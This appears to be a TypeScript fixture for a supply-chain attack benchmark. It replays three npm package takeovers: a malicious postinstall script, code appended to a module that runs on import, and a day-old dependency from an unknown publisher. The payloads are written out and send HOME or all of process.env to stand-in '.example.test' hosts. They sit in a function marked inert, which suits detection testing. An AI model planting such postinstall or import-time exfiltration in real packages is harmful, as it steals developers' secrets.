// Three small attacks to mutate: a script in CommonJS, statements added to a module, a stranger's package. All inert: the
// property `cordonMarker` shows where the payload went.
import type { Replay } from '../../bench/evaluate/mutations/replay.ts'

const ada = { name: 'ada', email: 'ada@example.test' }
const common = {
  about: 'inert',
  told: 'nothing',
  madeUp: 'everything',
  sources: [],
  kind: 'takeover',
  now: '2026-03-31T00:22:00Z',
  verdict: 'blocked',
} as const

const library = {
  'package.json': { main: 'index.js', license: 'MIT', scripts: { test: 'node test.js' } },
  'index.js':
    "'use strict'\nconst list = require('./lib/list')\nexports.list = list\nexports.sum = (a, b) => list([a, b])\n",
  'lib/list.js': 'module.exports = function list(parts) { return parts.length }\n',
  'README.md': 'A library.\n',
}

const script = `'use strict'
const https = require('https')
const { readFileSync: read } = require('fs')
const path = require('path')
const told = { home: process.env.HOME, 'own-file': path.join(__dirname, 'setup.js') }
function send(body) {
  const { host = 'collect.example.test' } = body
  return https.request({ host, method: 'POST', path: \`/v1/\${path.sep}x\` }).end(JSON.stringify(body))
}
globalThis.cordonMarker = () => send({ told, text: read('/nothing', 'utf8') })
`

export const byScript: Replay = {
  ...common,
  id: 'by-script',
  attack: ['tidy-list@1.2.4'],
  payload: [{ release: 'tidy-list@1.2.4', files: ['setup.js'], trigger: 'postinstall' }],
  registry: {
    packages: {
      'tidy-list': {
        publisher: ada,
        versions: {
          '1.2.2': { published: '2025-06-01T00:00:00Z', files: library },
          '1.2.3': {
            published: '2025-09-01T00:00:00Z',
            extends: '1.2.2',
            files: { 'README.md': 'A small library.\n' },
          },
          '1.2.4': {
            published: '2026-03-31T00:21:00Z',
            extends: '1.2.3',
            files: { 'package.json': { scripts: { postinstall: 'node setup.js' } }, 'setup.js': script },
          },
        },
      },
    },
  },
  project: { 'package.json': { name: 'app', version: '1.0.0', dependencies: { 'tidy-list': '^1.2.3' } } },
  lock: { tree: { 'node_modules/tidy-list': 'tidy-list@1.2.4' } },
}

const honestModule =
  "import { join } from 'node:path'\nimport { part } from './part.js'\nexport const whole = (name) => join(part, name)\n"
const addedModule = `import { hostname } from 'node:os'
const where = 'https://told.example.test/' + hostname()
globalThis.cordonMarker = async () => { await fetch(where, { method: 'PUT', body: JSON.stringify(process.env) }) }
`

export const byImport: Replay = {
  ...common,
  id: 'by-import',
  attack: ['tidy-module@2.0.1'],
  payload: [{ release: 'tidy-module@2.0.1', files: ['index.js'], trigger: 'import' }],
  registry: {
    packages: {
      'tidy-module': {
        publisher: ada,
        provenance: true,
        versions: {
          '2.0.0': {
            published: '2025-09-01T00:00:00Z',
            files: {
              'package.json': { type: 'module', exports: './index.js', license: 'MIT' },
              'index.js': honestModule,
              'part.js': "export const part = '/tmp'\n",
            },
          },
          '2.0.1': {
            published: '2026-03-31T00:20:00Z',
            extends: '2.0.0',
            files: { 'index.js': honestModule + addedModule },
          },
        },
      },
    },
  },
  project: { 'package.json': { name: 'app', version: '1.0.0', dependencies: { 'tidy-module': '^2.0.0' } } },
  lock: { tree: { 'node_modules/tidy-module': 'tidy-module@2.0.1' } },
}

/** As in March 2026: a library gets a dependency that nobody imports, and that is a day old. */
export const byStranger: Replay = {
  ...byScript,
  id: 'by-stranger',
  attack: ['tidy-list@1.2.4', 'lite-crypto@4.2.1'],
  payload: [
    { release: 'tidy-list@1.2.4', files: [], trigger: 'none' },
    { release: 'lite-crypto@4.2.1', files: ['setup.js'], trigger: 'postinstall' },
  ],
  registry: {
    packages: {
      'tidy-list': {
        publisher: ada,
        versions: {
          '1.2.3': { published: '2025-09-01T00:00:00Z', files: library },
          '1.2.4': {
            published: '2026-03-31T00:21:00Z',
            extends: '1.2.3',
            files: { 'package.json': { dependencies: { 'lite-crypto': '^4.2.1' } } },
          },
        },
      },
      'lite-crypto': {
        publisher: { name: 'nobody', email: 'nobody@mail.example.test' },
        versions: {
          '4.2.0': { published: '2026-03-30T05:00:00Z', files: library },
          '4.2.1': {
            published: '2026-03-30T23:59:00Z',
            extends: '4.2.0',
            files: { 'package.json': { scripts: { postinstall: 'node setup.js' } }, 'setup.js': script },
          },
        },
      },
    },
  },
  lock: { tree: { 'node_modules/tidy-list': 'tidy-list@1.2.4', 'node_modules/lite-crypto': 'lite-crypto@4.2.1' } },
}
